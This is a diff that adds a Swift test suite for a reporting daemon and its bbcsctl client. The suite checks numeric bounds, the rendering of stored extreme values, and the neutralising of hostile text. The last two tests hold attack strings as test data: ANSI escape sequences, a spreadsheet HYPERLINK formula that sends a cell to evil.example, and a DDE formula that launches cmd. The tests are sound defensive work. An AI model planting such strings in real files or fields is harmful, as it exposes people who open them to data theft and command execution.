@@ -1,0 +1,155 @@
+import BBCSClient
+import BBCSCore
+import BBCSPostgres
+import BBCSProtocol
+import BBCSTestSupport
+import Foundation
+import Testing
+
+/// Values and text that cannot hurt readers, over the real socket and the real bbcsctl, with
+/// the daemon's clock at 10 July 2026: values beyond what their unit allows are refused where
+/// they come in; values stored beyond those bounds, and stored text carrying terminal escapes
+/// or spreadsheet formulas, still print for every reader, harmlessly.
+@Suite("values and text that cannot hurt readers, over the socket")
+struct HostileDataTests {
+    static let daemon = try! TestDaemon(extraArguments: ["--now", "2026-07-10T09:00:00Z"])
+    static let formats = ["text", "markdown", "html", "csv", "json"]
+
+    func client() throws -> Client { try Self.daemon.client() }
+
+    /// What bbcsctl printed for `arguments`, once it exited 0.
+    func ctl(_ arguments: [String]) throws -> String {
+        let result = try Self.daemon.ctl(arguments)
+        #expect(result.status == 0, "bbcsctl \(arguments.joined(separator: " ")) exited \(result.status): \(result.err)")
+        return result.out
+    }
+
+    /// Control characters a terminal would obey: C0 apart from newline and tab, DEL, C1.
+    func terminalControls(in text: String) -> [Unicode.Scalar] {
+        text.unicodeScalars.filter { $0.properties.generalCategory == .control && $0 != "\n" && $0 != "\t" }
+    }
+
+    @Test(arguments: [
+        ("ComS_012", "2025/26 Q1", 1e19),                 // a count far beyond 2^53
+        ("ComS_014", "2025/26 Q1", 9_007_199_254_740_992), // 2^53 itself: no longer exact
+        ("ComS_033", "2025/26", 1_000_001),               // a percentage above the ceiling
+        ("ComS_101", "2025/26", 1e19),
+    ] as [(String, String, Double)])
+    func valuesBeyondTheirUnitAreRefused(_ code: String, _ period: String, _ value: Double) throws {
+        let c = try client()
+        let error = try #require(c.error(FigureSubmitRequest(code: code, period: Period(period)!, value: value, note: "n")))
+        #expect(error.code == .invalidParams && error.data?["param"] == "value", "\(error)")
+        #expect(try c.call(FigureHistoryRequest(code: code, period: Period(period)!)).revisions.isEmpty)
+    }
+
+    @Test func correctionsAndTargetsKeepTheSameBounds() throws {
+        let c = try client()
+        let q1 = Period("2025/26 Q1")!
+        _ = try c.call(FigureSubmitRequest(code: "ComS_013", period: q1, value: 20))
+        let corrected = try #require(c.error(FigureCorrectRequest(code: "ComS_013", period: q1, value: 1e19, reason: "typo", revision: 1,
+                                                                  note: "n")))
+        #expect(corrected.code == .invalidParams && corrected.data?["param"] == "value", "\(corrected)")
+        let target = try #require(c.error(TargetSetRequest(code: "ComS_100", period: Period("2026/27")!, value: 1e19, reason: "x")))
+        #expect(target.code == .invalidParams && target.data?["param"] == "value", "\(target)")
+        let percent = try #require(c.error(TargetSetRequest(code: "ComS_048", period: Period("2026/27")!, value: 2e6, reason: "x")))
+        #expect(percent.code == .invalidParams && percent.data?["param"] == "value", "\(percent)")
+        let tolerance = try #require(c.error(TargetSetRequest(code: "ComS_100", period: Period("2026/27")!, value: 450, tolerance: 1e19,
+                                                              reason: "x")))
+        #expect(tolerance.code == .invalidParams && tolerance.data?["param"] == "tolerance", "\(tolerance)")
+        #expect(try c.call(TargetHistoryRequest(code: "ComS_100")).changes.isEmpty)
+
+        // The largest count still goes in, and prints exactly.
+        _ = try c.call(FigureSubmitRequest(code: "ComS_097", period: q1, value: 9_007_199_254_740_991))
+        #expect(try ctl(["indicator", "show", "ComS_097"]).contains("9007199254740991"))
+    }
+
+    @Test(arguments: [(0, "actuals", "2021/22", 1e19), (59, "targets", "2025/26", 2e6)])  // ComS_001 a count, ComS_054 a percentage
+    func aPlanFileBeyondTheBoundsIsRefused(_ index: Int, _ field: String, _ year: String, _ value: Double) throws {
+        var plan = try #require(try JSONSerialization.jsonObject(with: Data(shippedPlanText.utf8)) as? [String: Any])
+        var indicators = try #require(plan["indicators"] as? [[String: Any]])
+        var values = try #require(indicators[index][field] as? [String: Any])
+        values[year] = value
+        indicators[index][field] = values
+        plan["indicators"] = indicators
+        let content = String(decoding: try JSONSerialization.data(withJSONObject: plan), as: UTF8.self)
+        let error = try #require(try client().error(PlanImportRequest(content: content)))
+        #expect(error.code == .invalidParams, "\(error)")
+        let code = try #require(indicators[index]["code"] as? String)
+        #expect(error.data?["path"] == "indicators[\(index)] (\(code)).\(field).\(year)", "\(error)")
+    }
+
+    /// Values no request may store today, put straight into the database as an older daemon
+    /// or a hand edit might have left them: every reader's command still prints.
+    @Test func storedExtremeValuesStillRender() throws {
+        let db = try PGConnection(conninfo: Self.daemon.database)
+        func insertFigure(_ code: String, _ period: String, _ value: String) throws {
+            _ = try db.query("""
+                INSERT INTO figures (indicator_id, period, revision, value, note, submitted_by)
+                SELECT id, $1, 1, $2::numeric, 'stored by hand', 'test' FROM indicators WHERE code = $3
+                """, [period, value, code])
+        }
+        try insertFigure("ComS_011", "2025/26 Q1", "1e19")
+        try insertFigure("ComS_011", "2025/26 Q2", "1e19")
+        // Two quarters near Double's limit: their year to date would be infinite.
+        try insertFigure("ComS_025", "2025/26 Q1", "1.7e308")
+        try insertFigure("ComS_025", "2025/26 Q2", "1.7e308")
+        _ = try db.query("""
+            UPDATE indicator_values SET value = 1e19
+            WHERE kind = 'target' AND period = '2025/26' AND indicator_id = (SELECT id FROM indicators WHERE code = 'ComS_024')
+            """)
+
+        #expect(try ctl(["indicator", "show", "ComS_011"]).contains("1e+19"))
+        #expect(try ctl(["indicator", "show", "ComS_025"]).contains("1.7e+308"))
+        #expect(try ctl(["indicator", "show", "ComS_024"]).contains("1e+19%"))
+        #expect(try ctl(["indicators"]).contains("1e+19"))
+        #expect(try ctl(["figure", "history", "ComS_011"]).contains("1e+19"))
+        for format in Self.formats {
+            let out = try ctl(["report", "--period", "2025/26 Q2", "--format", format])
+            #expect(out.contains("1e+19") || out.contains("10000000000000000000"), "\(format)")
+        }
+        let report = try client().call(ReportRequest(period: Period("2025/26 Q2")!))
+        let line = try #require(report.sections.flatMap(\.indicators).first { $0.code == "ComS_025" })
+        #expect(line.value == 1.7e308 && line.yearToDate == nil)
+    }
+
+    /// Notes, names and titles carrying ANSI escapes (retitle the window, clear the screen,
+    /// colour) and 8-bit controls print with them replaced, in every layout.
+    @Test func storedTextPrintsWithoutTerminalControls() throws {
+        let c = try client()
+        let escapes = "\u{1B}]0;pwned\u{07}\u{1B}[2J\u{1B}[31mFine\u{9B}0m\u{7F}"
+        _ = try c.call(FigureSubmitRequest(code: "ComS_093a", period: Period("2025/26 Q2")!, value: 40, note: "Quiet " + escapes))
+        _ = try c.call(FigureCorrectRequest(code: "ComS_093a", period: Period("2025/26 Q2")!, value: 41, reason: "recount " + escapes,
+                                            revision: 1))
+        _ = try c.call(TaskUpdateRequest(code: "BCRPASB_27", status: .onTrack, progress: 50, note: "Drafts " + escapes))
+        _ = try c.call(UserAddRequest(login: "daemon", name: "Dae" + escapes + "mon"))
+        let db = try PGConnection(conninfo: Self.daemon.database)
+        _ = try db.query("UPDATE indicators SET title = $1 WHERE code = 'ComS_093a'", ["Licensing " + escapes])
+
+        var outputs = [
+            try ctl(["indicator", "show", "ComS_093a"]), try ctl(["indicators"]), try ctl(["figure", "history", "ComS_093a"]),
+            try ctl(["task", "history", "BCRPASB_27"]), try ctl(["user", "list"]),
+        ]
+        for format in Self.formats where format != "json" {
+            outputs.append(try ctl(["report", "--period", "2025/26 Q2", "--format", format]))
+        }
+        for out in outputs.map({ $0.replacingOccurrences(of: "\r\n", with: "\n") }) {  // CSV's own line ends
+            #expect(terminalControls(in: out).isEmpty, "\(out.prefix(300))")
+            #expect(out.contains("\u{FFFD}[2J"), "\(out.prefix(300))")
+        }
+        // JSON is for scripts: the encoder writes C0 controls as \u escapes.
+        #expect(!(try ctl(["report", "--period", "2025/26 Q2", "--format", "json"])).contains("\u{1B}"))
+    }
+
+    /// A note that a spreadsheet would run as a formula is text in the CSV; numbers stay numbers.
+    @Test func csvCellsNeverRunAsFormulas() throws {
+        let c = try client()
+        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")"
+        _ = try c.call(FigureSubmitRequest(code: "ComS_093b", period: Period("2025/26 Q2")!, value: 30, note: formula))
+        _ = try c.call(TaskUpdateRequest(code: "BCRPASB_17", status: .onTrack, progress: 10, note: "@SUM(1+1)*cmd|' /C calc'!A0"))
+        let csv = try ctl(["report", "--period", "2025/26 Q2", "--format", "csv"])
+        #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Details\"\")\""), "\(csv)")
+        #expect(csv.contains("'@SUM(1+1)*cmd|' /C calc'!A0"))
+        let cells = csv.components(separatedBy: "\r\n").flatMap { $0.components(separatedBy: ",") }
+        #expect(!cells.contains { $0.hasPrefix("=") || $0.hasPrefix("@") || $0.hasPrefix("+") || $0.hasPrefix("\"=") })
+    }
+}
